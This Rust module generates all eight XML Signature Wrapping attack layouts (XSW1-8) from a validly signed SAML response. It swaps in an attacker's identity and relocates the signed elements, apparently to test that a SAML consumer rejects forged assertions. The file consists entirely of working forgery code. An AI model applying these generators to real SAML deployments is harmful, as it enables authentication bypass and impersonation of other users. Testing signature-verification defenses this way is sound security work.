//! XML Signature Wrapping layouts XSW1-8 (Somorovsky et al., "On Breaking SAML", 2012),
//! built from a genuinely signed response by moving the signed parts around and adding an
//! attacker's assertion. The attacker's identity is `666666@school-a.nl`.

pub const EVIL_REAL_ID: &str = "666666@school-a.nl";
pub const GOOD_REAL_ID: &str = "100231@school-a.nl";
const SIG_OPEN: &str = "<ds:Signature";
const SIG_CLOSE: &str = "</ds:Signature>";

/// The substring of the first `open ... close` element.
fn element<'a>(xml: &'a str, open: &str, close: &str) -> &'a str {
    let start = xml.find(open).unwrap_or_else(|| panic!("{open} in {xml}"));
    let end = xml[start..].find(close).expect("close tag") + start + close.len();
    &xml[start..end]
}

pub fn assertion(xml: &str) -> &str {
    element(xml, "<saml:Assertion", "</saml:Assertion>")
}

pub fn signature(xml: &str) -> &str {
    element(xml, SIG_OPEN, SIG_CLOSE)
}

pub fn strip_signature(xml: &str) -> String {
    xml.replacen(signature(xml), "", 1)
}

fn id_of(element_text: &str) -> String {
    let start = element_text.find(" ID=\"").expect("ID") + 5;
    let end = element_text[start..].find('"').expect("quote") + start;
    element_text[start..end].to_string()
}

/// The attacker's copy: another ID and another person.
fn evil(text: &str) -> String {
    let id = id_of(text);
    text.replacen(
        &format!(" ID=\"{id}\""),
        " ID=\"_evil0000000000000000000000000000000\"",
        1,
    )
    .replace(GOOD_REAL_ID, EVIL_REAL_ID)
}

/// `sig` with `content` added as its last child.
fn signature_with(sig: &str, content: &str) -> String {
    format!("{}{content}{SIG_CLOSE}", &sig[..sig.len() - SIG_CLOSE.len()])
}

/// XSW1: the response is signed. The attacker's response is the root, its Signature
/// carries the original signed response in a ds:Object.
pub fn xsw1(signed_response: &str) -> String {
    let sig = signature(signed_response);
    let object = format!("<ds:Object>{signed_response}</ds:Object>");
    evil(signed_response).replacen(sig, &signature_with(sig, &object), 1)
}

/// XSW2: like XSW1, but the original response sits beside the Signature (detached).
pub fn xsw2(signed_response: &str) -> String {
    let sig = signature(signed_response);
    evil(signed_response).replacen(sig, &format!("{signed_response}{sig}"), 1)
}

/// XSW3: the assertion is signed. An unsigned attacker assertion goes before it.
pub fn xsw3(response: &str) -> String {
    let a = assertion(response);
    response.replacen(a, &format!("{}{a}", strip_signature(&evil(a))), 1)
}

/// XSW4: the attacker assertion wraps the original one.
pub fn xsw4(response: &str) -> String {
    let a = assertion(response);
    let wrapper = strip_signature(&evil(a));
    let inner = wrapper.replacen("</saml:Assertion>", &format!("{a}</saml:Assertion>"), 1);
    response.replacen(a, &inner, 1)
}

/// XSW5: the attacker assertion keeps the copied signature; the original, unsigned, is
/// appended at the end of the response.
pub fn xsw5(response: &str) -> String {
    let a = assertion(response);
    let moved = response.replacen(a, &evil(a), 1);
    moved.replacen(
        "</samlp:Response>",
        &format!("{}</samlp:Response>", strip_signature(a)),
        1,
    )
}

/// XSW6: the attacker assertion carries the original signature, which holds the original
/// assertion (its signature moved out) as a child.
pub fn xsw6(response: &str) -> String {
    let a = assertion(response);
    let e = evil(a);
    let sig = signature(&e).to_string();
    let with_original = e.replacen(&sig, &signature_with(&sig, &strip_signature(a)), 1);
    response.replacen(a, &with_original, 1)
}

/// XSW7: the original assertion hides in samlp:Extensions; the attacker's stands in its place.
pub fn xsw7(response: &str) -> String {
    let a = assertion(response);
    let replaced = response.replacen(a, &strip_signature(&evil(a)), 1);
    replaced.replacen(
        "</saml:Issuer>",
        &format!("</saml:Issuer><samlp:Extensions>{a}</samlp:Extensions>"),
        1,
    )
}

/// XSW8: the attacker assertion's signature has a ds:Object holding the original assertion
/// without its signature.
pub fn xsw8(response: &str) -> String {
    let a = assertion(response);
    let e = evil(a);
    let sig = signature(&e).to_string();
    let object = format!("<ds:Object>{}</ds:Object>", strip_signature(a));
    response.replacen(a, &e.replacen(&sig, &signature_with(&sig, &object), 1), 1)
}
